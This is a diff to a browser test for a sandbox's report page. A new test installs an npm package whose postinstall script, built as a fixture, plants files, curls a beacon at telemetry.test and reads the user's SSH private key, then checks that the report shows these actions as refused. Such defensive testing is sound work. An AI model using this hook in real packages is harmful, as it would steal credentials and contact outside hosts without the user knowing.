@@ -2,6 +2,7 @@
 """tests/live/report-page.py - the page of cloche report, in a browser
 
 The tests in a browser are those of the long run. CLOCHE_PICTURES=DIR keeps screenshots.
+The npm of one of them installs from a registry in a network of our own.
 """
 
 import json
@@ -11,7 +12,7 @@ import sys
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "harness"))
 from browser import Browser
-from tap import *
+from registries import *
 
 STORE = ".local/state/cloche/violations.jsonl"
 MANY = 100000
@@ -25,6 +26,31 @@ HOSTILE = [
 ]
 RUN = "01J0000000000000000000000"
 in_browser = test_if(LONG)
+# What has less contrast than AA wants (4.5, large text 3), as it is drawn
+CONTRAST = """(() => {
+	const parse = (c) => c.match(/[\\d.]+/g).map(Number);
+	const light = (c) => c.slice(0, 3).map((v) => v / 255).map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
+		.reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
+	const ground = (n) => {
+		for (; n; n = n.parentElement) {
+			const c = parse(getComputedStyle(n).backgroundColor);
+			if (c.length < 4 || c[3] > 0)
+				return c;
+		}
+		return [255, 255, 255];
+	};
+	const bad = [];
+	for (const n of document.querySelectorAll("main *")) {
+		if (![...n.childNodes].some((c) => c.nodeType === 3 && c.data.trim()) || !n.getClientRects().length)
+			continue;
+		const style = getComputedStyle(n), a = light(parse(style.color)), b = light(ground(n));
+		const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
+		const large = parseFloat(style.fontSize) >= 24 || (parseFloat(style.fontSize) >= 18.66 && style.fontWeight >= 700);
+		if (ratio < (large ? 3 : 4.5))
+			bad.push([n.tagName, n.textContent.slice(0, 40), ratio]);
+	}
+	return bad;
+})()"""
 
 
 def refusal(i, target, **more):
@@ -46,11 +72,13 @@ def run_line(**more):
 
 
 def hostile_store():
-    lines = [run_line(), run_line(run=RUN + "B", command=HOSTILE[0], project=HOSTILE[2],
-                                  tier="landlock")]
+    lines = [run_line(hosts="registry.example.org:443=12/3456/7890123 others=1/2/3",
+                      limits="time=2000/60000 memory=900000000/1000000000"),
+             run_line(run=RUN + "B", command=HOSTILE[0], project=HOSTILE[2], tier="landlock",
+                      hosts="<b>=x/1 =", limits="<i>=9/ =/ __proto__=1/2")]
     for i, name in enumerate(HOSTILE):
         lines.append(refusal(i, name, exe=name, command=name, reason=name, run=RUN + "B",
-                             rule={"file": name, "path": name},
+                             rule={"file": name, "path": name}, parents=f"1 {name}/2 {name}",
                              suggest={"edit": name, "command": name}))
     for i in range(40):
         lines.append(refusal(i, f"/usr/lib/file-{i}"))
@@ -129,6 +157,8 @@ def hostile_names_are_inert(t):
             contains(shown, name)
         for i in 0, 1, 39:		# Each row has its own
             contains(shown, f"cloche policy allow write /usr/lib/file-{i}\n")
+        for text in "7.5 MiB", "900000000", "858 MiB of 954 MiB, 90 %: near", "2 s of 60 s, 3 %":
+            (lacks if text.isdigit() else contains)(shown, text)
         for mark in "\\u202egnp.exe", "\\u2066a\\u2069\\u200bb", "\\u001b]0;title\\u0007":
             contains(shown, mark)
         lacks(shown, "\u202e")
@@ -197,19 +227,63 @@ def a_hundred_thousand_refusals_load(t):
 
 
 @in_browser
-def it_fits_wide_and_narrow_light_and_dark(t):
-    keep = os.environ.get("CLOCHE_PICTURES")
+def an_installation_by_npm_is_shown(t):
+    npm = need("npm")
+    serve_registries()
+    script = ("touch $HOME/.npm-planted; curl -s http://telemetry.test/beacon; mkdir -p /usr/lib/planted; "
+              "sh -c 'cat $HOME/.ssh/id_ed25519'; true")
+    t.write(os.path.join(t.home, ".ssh/id_ed25519"), "secret\n", 0o600)
+    t.write("package.json", json.dumps({"name": "project", "version": "1.0.0", "dependencies": {"dep": "1.0.0"},
+                                        "scripts": {"postinstall": script}}))
+    t.write(".npmrc", "registry=http://npm.test/\n")
+    t.inside(npm, "install", "--no-audit", "--no-fund", options=["--ephemeral", "--allow", "npm.test", "--timeout", "10m"]).ok()
+    t.run("report", "-o", t.away + "/page.html").ok()
+    address = f"file://{t.away}/page.html"
     with browser(t) as page:
-        address = page_of(t, hostile_store())
-        for width, height in (1280, 900), (390, 844):
-            for scheme in "light", "dark":
-                page.size(width, height, scheme)
-                page.open(address)
-                check(page.run("document.documentElement.scrollWidth <= innerWidth"), width)
-                ground = page.run("getComputedStyle(document.body).backgroundColor")
-                check((sum(map(int, re.findall(r"\d+", ground))) < 384) == (scheme == "dark"), ground)
-                if keep:
-                    page.picture(os.path.join(keep, f"report-{width}-{scheme}.png"))
+        page.open(address)
+        page.run("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
+        page.run("new Promise(requestAnimationFrame)")
+        shown = {name: page.run(f"document.getElementById('{name}').innerText")
+                 for name in ("runs", "refused", "hosts", "limits", "processes", "staged")}
+        contains(shown["runs"], "install --no-audit")
+        for target in ".npm-planted", "telemetry.test:80", "/usr/lib/planted":
+            contains(shown["refused"], target)
+        contains(shown["hosts"], "npm.test:80")
+        lacks(shown["hosts"], "telemetry")
+        contains(shown["limits"], "of 600 s")
+        check(re.search(r"npm install.*\n.*sh .*\n.*touch", shown["processes"]), shown["processes"])
+        contains(shown["staged"], "node_modules/dep/i.js")
+        contains(page.run("document.getElementById('staged').innerHTML"), "module.exports = 42")
+        equal(page.run("document.documentElement.scrollWidth <= innerWidth"), True)
+        check_silent(page, address)
+        look(page, address, "npm")
 
 
+def look(page, address, name):
+    """In every width and colour; pictures are for a person"""
+    keep = os.environ.get("CLOCHE_PICTURES")
+    for width, height in (1280, 900), (390, 844):
+        for scheme in "light", "dark":
+            page.size(width, height, scheme)
+            page.open(address)
+            check(page.run("document.documentElement.scrollWidth <= innerWidth"), width)
+            ground = page.run("getComputedStyle(document.body).backgroundColor")
+            check((sum(map(int, re.findall(r"\d+", ground))) < 384) == (scheme == "dark"), ground)
+            equal(page.run(CONTRAST), [])
+            if keep:
+                page.run("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
+                page.picture(os.path.join(keep, f"{name}-{width}-{scheme}.png"))
+    # The control: the measure does find grey on grey
+    page.run("document.querySelector('h1').style.color = getComputedStyle(document.body).backgroundColor")
+    equal(len(page.run(CONTRAST)), 1)
+
+
+@in_browser
+def it_fits_wide_and_narrow_light_and_dark(t):
+    with browser(t) as page:
+        look(page, page_of(t, hostile_store()), "hostile")
+
+
+if LONG:
+    own_host(NAMES)
 main()
